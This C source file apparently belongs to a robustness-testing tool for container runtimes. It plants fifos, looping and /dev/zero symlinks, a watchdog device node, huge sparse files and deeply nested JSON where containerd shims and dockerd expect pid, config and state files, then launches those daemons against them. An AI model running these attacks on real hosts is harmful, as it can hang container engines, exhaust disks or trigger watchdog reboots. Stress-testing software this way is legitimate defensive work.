// SPDX-License-Identifier: GPL-2.0-only
/* Files that one who reads them for an engine's would not come back from. */
#include "attacker.h"

#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#define LOOKED_AT_MS 3500 /* so long an engine lives before its files are read */

static void empty_file(const char *path, off_t size)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);

	if (fd < 0)
		return;
	(void)!ftruncate(fd, size);
	close(fd);
}

/* What is where a pid file, a configuration or a state is expected. Columns: how it is made. */
static void make_fifo(const char *path)
{
	mkfifo(path, 0666);
}

static void make_zero(const char *path)
{
	(void)!symlink("/dev/zero", path);
}

static void make_loop(const char *path)
{
	(void)!symlink(path, path);
}

static void make_tty(const char *path)
{
	(void)!symlink("/dev/tty", path);
}

/* The watchdog's: opening it is enough, where it may be made. */
static void make_node(const char *path)
{
	mknod(path, S_IFCHR | 0666, makedev(10, 130));
}

static void make_huge(const char *path)
{
	empty_file(path, (off_t)64 << 30);
}

static void make_directory(const char *path)
{
	mkdir(path, 0755);
}

static void make_deep(const char *path)
{
	FILE *f = fopen(path, "we");

	for (int i = 0; f && i < 1 << 20; i++)
		fputs("{\"a\":[", f);
	if (f)
		fclose(f);
}

static void (*const kinds[])(const char *path) = {
	make_fifo, make_zero, make_loop, make_tty, make_node, make_huge, make_directory, make_deep
};

#define KINDS (sizeof(kinds) / sizeof(kinds[0]))

/* A shim whose working directory holds no pid file. */
static void pid_files(void)
{
	const char *args[] = { "-namespace", "moby", "-id", a_victim()->id, NULL };
	char dir[64];

	for (size_t i = 0; i < KINDS && !time_is_up(); i++) {
		snprintf(dir, sizeof(dir), "%zu", i);
		if (mkdir(dir, 0755) || chdir(dir))
			return;
		kinds[i]("init.pid");
		kinds[i]("config.json");
		kinds[i]("address");
		spawn("containerd-shim-runc-v2", "stay", args);
		if (chdir(".."))
			return;
	}
}

/* The fifos of a victim's output, in a file system of one's own; both ends are the shim's. */
static void output_of(const struct victim *v)
{
	char path[256];
	int fd;

	mkdir(v->id, 0755);
	snprintf(path, sizeof(path), "%s/%s", v->id, chance() % 2 ? "init-stdout" : "init-stderr");
	if (chance() % 2)
		snprintf(path, sizeof(path), "%s/%s-stdout", v->id, v->id);
	mkfifo(path, 0666);
	fd = open(path, O_RDWR | O_NONBLOCK | O_CLOEXEC);
	if (fd < 0)
		return;
	(void)!write(fd, "ready\n", 6);
	close(fd);
}

static void fifos(void)
{
	while (!time_is_up()) {
		output_of(a_victim());
		nap_ms(1);
	}
}

/* State of containers: links to one large file, fifos, and directories that lead back. */
static void states(const char *root, size_t kind)
{
	char path[1024], large[1024];

	snprintf(path, sizeof(path), "%s/containers", root);
	mkdir(root, 0755);
	mkdir(path, 0755);
	snprintf(large, sizeof(large), "%s/large", root);
	empty_file(large, 4 << 20);
	for (int i = 0; i < 1024; i++) {
		snprintf(path, sizeof(path), "%s/containers/%064x", root, i);
		if (i % 64 == 63) {
			(void)!symlink("..", path);
			continue;
		}
		mkdir(path, 0755);
		strcat(path, i % 2 ? "/config.v2.json" : "/hostconfig.json");
		if (i % 3)
			(void)!link(large, path);
		else
			kinds[(kind + (size_t)i) % (KINDS - 1)](path); /* not a deep one each */
	}
}

/* Lives long enough to be looked at, in turn with each kind of file. */
static void configs(void)
{
	char file[64], root[600];

	for (size_t i = 0; i < KINDS && !time_is_up(); i++) {
		const char *named[] = { "--config-file", file, "--data-root", root, NULL };
		const char *rooted[] = { "--data-root", root, NULL };

		snprintf(file, sizeof(file), "daemon.json.%zu", i);
		snprintf(root, sizeof(root), "%s/root.%zu", here, i);
		kinds[i](file);
		states(root, i);
		spawn("dockerd", "stay", named);
		spawn("dockerd", "stay", rooted);
		if (i % 3 == 2)
			nap_ms(LOOKED_AT_MS);
	}
}

const struct attack attacks_files[] = {
	{ "pid-files", pid_files, "shims with fifos, links and device nodes for files" },
	{ "fifos", fifos, "@containerd-shim-runc-v2 output of victims on fifos of its own" },
	{ "configs", configs, "engines with endless, huge, cyclic and linked files" },
	{ NULL, NULL, NULL },
};
